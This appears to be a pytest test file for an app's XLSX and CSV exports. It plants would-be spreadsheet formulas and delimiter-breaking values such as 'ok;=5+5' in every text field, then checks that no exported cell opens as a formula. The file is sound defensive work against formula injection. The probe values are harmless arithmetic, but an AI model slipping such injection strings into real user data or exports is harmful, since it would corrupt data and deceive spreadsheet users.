PLANTED = ["=1+1", "+31 20 123 4567", "-2+3", "@SUM(1+1)", "\t=2+2", "ok;=5+5", "a,b;=5+5;-1"]


@pytest.fixture
def planted_data(tmp_path, monkeypatch) -> Iterator[DataSet]:
    """The app serving a data copy whose every text field is planted with would-be formulas."""
    records = fixture_records()
    for index, record in enumerate(records):
        planted = PLANTED[index % len(PLANTED)]
        for field in ("name", "organisations", "summary", "municipality", "coord_basis"):
            record[field] = planted if field != "summary" else f"{planted} ;=5+5"
    dataset = load_dataset(write_data_dir(tmp_path / "data", records))
    assert any(n.startswith(("=", "+", "-", "@")) for n in dataset.initiatives["name"])
    monkeypatch.setattr(runtime, "data", lambda: dataset)
    yield dataset


def formula_cells(body: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(body))
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
def test_planted_formulas_run_in_no_export(client, planted_data, tmp_path):
    for path in ("/export/initiatives.xlsx", "/export/provinces.xlsx"):
        assert formula_cells(download(client, path, "")) == [], path
    for dialect in exports.CSV_DIALECTS:
        files = {
            subject: download(client, f"/export/{subject}.csv", f"dialect={dialect}")
            for subject in ("initiatives", "provinces")
        }
        opened = libreoffice_open_csv(files, dialect, tmp_path / dialect)
        for subject, rows in opened.items():
            found = [c.coordinate for row in rows for c in row if c.data_type == "f"]
            assert found == [], (subject, dialect, found)
        names = planted_data.provinces["name"]
        expected = exports.export_frame(planted_data.initiatives, names, "nl")
        assert_cells_are_the_data(opened["initiatives"], expected, dialect)
        names = [row[1].value for row in opened["initiatives"][1:]]
        assert "'=1+1" in names and "ok;=5+5" in names  # whole, shown as typed
